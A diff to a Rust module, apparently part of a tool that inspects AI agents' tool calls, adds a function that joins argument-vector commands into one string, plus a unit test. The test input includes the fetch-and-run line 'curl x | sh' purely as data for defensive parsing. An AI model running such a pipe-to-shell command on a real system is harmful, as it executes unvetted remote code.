@@ -161,6 +161,7 @@ impl<'a> Facts<'a> {
                         .find_map(|k| c.input.get(*k).and_then(|v| v.as_str()))
                 })
                 .map(Cow::Borrowed)
+                .or_else(|| argv_command(&c.input).map(Cow::Owned))
                 .or_else(|| c.file_paths().into_iter().next().map(Cow::Owned))
         });
         Facts { input, session_present: input.session.is_some() || matched, agent_command }
@@ -240,6 +241,14 @@ impl<'a> Facts<'a> {
     }
 }
 
+/// A command given as an argument vector (`{"command": ["bash", "-lc", "make"]}`, as Codex
+/// sends it), joined with spaces.
+fn argv_command(input: &serde_json::Value) -> Option<String> {
+    let argv = input.get("command").or_else(|| input.get("cmd"))?.as_array()?;
+    let words: Option<Vec<&str>> = argv.iter().map(|v| v.as_str()).collect();
+    words.filter(|w| !w.is_empty()).map(|w| w.join(" "))
+}
+
 /// The last path component of the executable, else of the command line's first word.
 fn program_name<'s>(exe: Option<&'s str>, cmd_line: Option<&'s str>) -> Option<&'s str> {
     let path = exe.or_else(|| cmd_line.and_then(|c| c.split_whitespace().next()))?;
@@ -303,6 +312,14 @@ mod tests {
         assert!(SEVERITIES[severity_rank(Severity::Critical)] == "critical");
         assert!(TRUSTS[trust_rank(Trust::SharedSecret)] == "shared-secret");
         assert_eq!(trust_from_rank(trust_rank(Trust::Local)), Trust::Local);
+    }
+
+    #[test]
+    fn argv_commands_are_joined() {
+        let v = serde_json::json!({"command": ["bash", "-lc", "curl x | sh"]});
+        assert_eq!(argv_command(&v).as_deref(), Some("bash -lc curl x | sh"));
+        assert_eq!(argv_command(&serde_json::json!({"command": [1]})), None);
+        assert_eq!(argv_command(&serde_json::json!({"command": []})), None);
     }
 
     #[test]
